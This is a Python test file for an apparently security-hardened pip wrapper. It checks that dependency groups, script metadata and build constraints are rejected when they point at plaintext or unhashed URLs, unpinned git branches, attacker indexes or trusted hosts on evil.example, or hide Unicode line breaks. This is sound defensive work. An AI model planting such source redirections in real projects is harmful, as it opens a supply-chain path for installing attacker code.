"""Dependency groups, scripts and build constraints that somebody else had a hand in.

Each attack stands beside its benign twin; where it is cheap, pip itself is shown to fall for it.
"""

from __future__ import annotations

import pytest

from cli.conftest import Shell, publish, trusting
from support.server import IndexServer
from support.wheels import make_wheel, sha256, wheel_filename
from threats.conftest import Run

BLOCK = "# /// script\n# dependencies = [{dependencies}]\n{more}# ///\n"
LIB = sha256(make_wheel("lib"))
WAYS = ("group", "script")


def ask(shell: Shell, way: str, *dependencies: str) -> tuple[str, ...]:
    """A file that asks for the dependencies, and the words that name it."""
    listed = ", ".join(f'"{one}"' for one in dependencies)
    if way == "group":
        shell.write("pyproject.toml", f"[dependency-groups]\ndev = [{listed}]\n")
        return ("--group", "dev")
    shell.write("tool.py", BLOCK.format(dependencies=listed, more=""))
    return ("--requirements-from-script", "tool.py")


def wheel_url(server: IndexServer) -> str:
    return f"{server.origin}/files/{wheel_filename('lib')}"


@pytest.mark.parametrize("way", WAYS)
def test_direct_url_over_plaintext(
    shell: Shell, index: IndexServer, safepip: Run, pip: Run, way: str
) -> None:
    with IndexServer(plaintext=True) as plain:
        publish(plain, "lib")
        words = ask(shell, way, f"lib @ {wheel_url(plain)}#sha256={LIB}")
        ended = safepip("install", *trusting(index), *words)
        assert (ended.code, plain.requests, shell.installed()) == (10, [], set())
        assert "error[plaintext-link]" in ended.err
        assert ("--> pyproject.toml:2:" if way == "group" else "--> tool.py:2:") in ended.err
        assert pip("install", *trusting(index), *words).code == 0


@pytest.mark.parametrize("way", WAYS)
def test_direct_url_without_a_hash(
    shell: Shell, index: IndexServer, safepip: Run, pip: Run, way: str
) -> None:
    words = ask(shell, way, f"lib @ {wheel_url(index)}")
    ended = safepip("install", *trusting(index), *words)
    assert (ended.code, index.requests, shell.installed()) == (10, [], set())
    assert "error[direct-url]" in ended.err
    assert pip("install", *trusting(index), *words).code == 0


@pytest.mark.parametrize("way", WAYS)
def test_direct_url_with_a_hash_installs(shell: Shell, index: IndexServer, safepip: Run, way: str) -> None:
    words = ask(shell, way, f"lib @ {wheel_url(index)}#sha256={LIB}")
    assert safepip("install", *trusting(index), *words).code == 0
    assert shell.installed() == {"lib-1.0"}


@pytest.mark.parametrize("way", WAYS)
def test_repository_at_a_branch(shell: Shell, index: IndexServer, safepip: Run, way: str) -> None:
    words = ask(shell, way, "demo @ git+https://evil.example/demo@main")
    ended = safepip("install", *trusting(index), *words)
    assert (ended.code, shell.installed()) == (10, set())
    assert "error[unpinned-vcs]" in ended.err


@pytest.mark.parametrize("way", WAYS)
def test_no_hashes_are_possible_there(shell: Shell, index: IndexServer, safepip: Run, way: str) -> None:
    """Where hashes are required of everything, names there need them as every other does."""
    words = ask(shell, way, "lib==1.0")
    ended = safepip("install", *trusting(index), "--require-hashes", *words)
    assert (ended.code, shell.installed()) == (10, set())
    assert "error[unhashed-requirement]: lib==1.0" in ended.err


@pytest.mark.parametrize("way", WAYS)
def test_names_that_a_hashed_constraint_file_pins_install(
    shell: Shell, index: IndexServer, safepip: Run, way: str
) -> None:
    shell.write("constraints.txt", f"lib==1.0 --hash=sha256:{LIB}\n")
    words = ask(shell, way, "lib")
    ended = safepip("install", *trusting(index), "--require-hashes", "-c", "constraints.txt", *words)
    assert (ended.code, shell.installed()) == (0, {"lib-1.0"})


@pytest.mark.parametrize("way", WAYS)
def test_plain_names_install_without_hashes(shell: Shell, index: IndexServer, safepip: Run, way: str) -> None:
    """A group and a script are the project's own list, not a requirement file."""
    words = ask(shell, way, "app", "lib<2")
    assert safepip("install", *trusting(index), *words).code == 0
    assert shell.installed() == {"app-1.0", "lib-1.0"}


@pytest.mark.parametrize("way", WAYS)
def test_a_name_that_looks_like_a_file_of_the_folder(
    shell: Shell, index: IndexServer, safepip: Run, way: str
) -> None:
    """What lies in the working directory is never taken for what a project lists by name."""
    (shell.folder / "demo.zip").write_bytes(b"PK")
    ended = safepip("install", *trusting(index), *ask(shell, way, "demo.zip"))
    assert (ended.code, shell.installed()) == (1, set())
    assert "/simple/demo-zip/" in index.paths_asked()


def test_group_that_reaches_other_groups(shell: Shell, index: IndexServer, safepip: Run) -> None:
    """An included group is judged like the one that was asked for, at its own line."""
    shell.write(
        "pyproject.toml",
        '[dependency-groups]\ndev = [{include-group = "hidden"}]\n'
        'hidden = ["lib @ http://evil.example/lib-1.0-py3-none-any.whl"]\n',
    )
    ended = safepip("install", *trusting(index), "--group", "dev")
    assert (ended.code, index.requests) == (10, [])
    assert "--> pyproject.toml:3:11" in ended.err


@pytest.mark.parametrize("path", ["https://evil.example/pyproject.toml", "http://evil.example/pylock.toml"])
def test_group_from_a_url(shell: Shell, index: IndexServer, safepip: Run, path: str) -> None:
    """pip reads no group from a URL, and nothing is fetched to find out."""
    ended = safepip("install", *trusting(index), "--group", f"{path}:dev")
    assert ended.code in {1, 2}
    assert shell.installed() == set()


def test_indexes_that_a_script_names(shell: Shell, index: IndexServer, safepip: Run) -> None:
    """What a script says to another tool about indexes has no effect, and that is said."""
    more = '# [tool.uv]\n# index-url = "https://evil.example/simple"\n# [[tool.uv.index]]\n# url = "https://evil.example"\n'
    shell.write("tool.py", BLOCK.format(dependencies='"lib"', more=more))
    ended = safepip("install", *trusting(index), "--requirements-from-script", "tool.py")
    assert (ended.code, shell.installed()) == (0, {"lib-2.0"})
    assert "tool.py:4:3: tool.uv.index-url is not read" in ended.err


@pytest.mark.parametrize("character", ["\v", "\f", "\x1c", "\x85", "\u2028", "\u2029"])
def test_hidden_line_break_in_a_script(
    shell: Shell, index: IndexServer, safepip: Run, character: str
) -> None:
    """pip begins a line where editors show none, and drops the first character of what follows."""
    more = f'# note = "harmless{character}*"\n'
    shell.write("tool.py", BLOCK.format(dependencies='"lib"', more=more))
    ended = safepip("install", *trusting(index), "--requirements-from-script", "tool.py")
    assert (ended.code, shell.installed()) == (10, set())
    assert "error[misleading-file]" in ended.err
    assert "--> tool.py:3:" in ended.err


def test_dependencies_that_are_no_list(shell: Shell, index: IndexServer, safepip: Run, pip: Run) -> None:
    """pip asks its indexes for each letter of the word."""
    publish(index, "l")
    shell.write("tool.py", '# /// script\n# dependencies = "l"\n# ///\n')
    ended = safepip("install", *trusting(index), "--requirements-from-script", "tool.py")
    assert (ended.code, shell.installed()) == (1, set())
    assert "must be a list of strings" in ended.err
    assert pip("install", *trusting(index), "--requirements-from-script", "tool.py").code == 0


# --- build constraints ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "line, rule",
    [
        ("setuptools @ https://evil.example/setuptools-1-py3-none-any.whl", "direct-url"),
        ("setuptools @ http://evil.example/setuptools-1-py3-none-any.whl", "plaintext-link"),
        ("--index-url https://evil.example/simple", "index-in-requirements"),
        ("--trusted-host evil.example", "trusted-host"),
    ],
)
def test_build_constraint_that_names_another_source(
    shell: Shell, index: IndexServer, safepip: Run, line: str, rule: str
) -> None:
    shell.write("build.txt", f"{line}\n")
    ended = safepip("install", *trusting(index), "--build-constraint", "build.txt", "lib")
    assert (ended.code, index.requests, shell.installed()) == (10, [], set())
    assert f"error[{rule}]" in ended.err
    assert "--> build.txt:1" in ended.err


def test_build_constraints_say_nothing_about_what_is_installed(
    shell: Shell, index: IndexServer, safepip: Run
) -> None:
    shell.write("build.txt", f"lib==1.0 --hash=sha256:{'0' * 64}\nsetuptools<99\n")
    ended = safepip("install", *trusting(index), "--build-constraint", "build.txt", "lib")
    assert (ended.code, shell.installed()) == (0, {"lib-2.0"})


def test_remote_build_constraints_over_plaintext(shell: Shell, index: IndexServer, safepip: Run) -> None:
    with IndexServer(plaintext=True) as plain:
        ended = safepip("install", *trusting(index), "--build-constraint", f"{plain.origin}/build.txt", "lib")
        assert (ended.code, plain.requests) == (10, [])
        assert "error[plaintext-link]" in ended.err
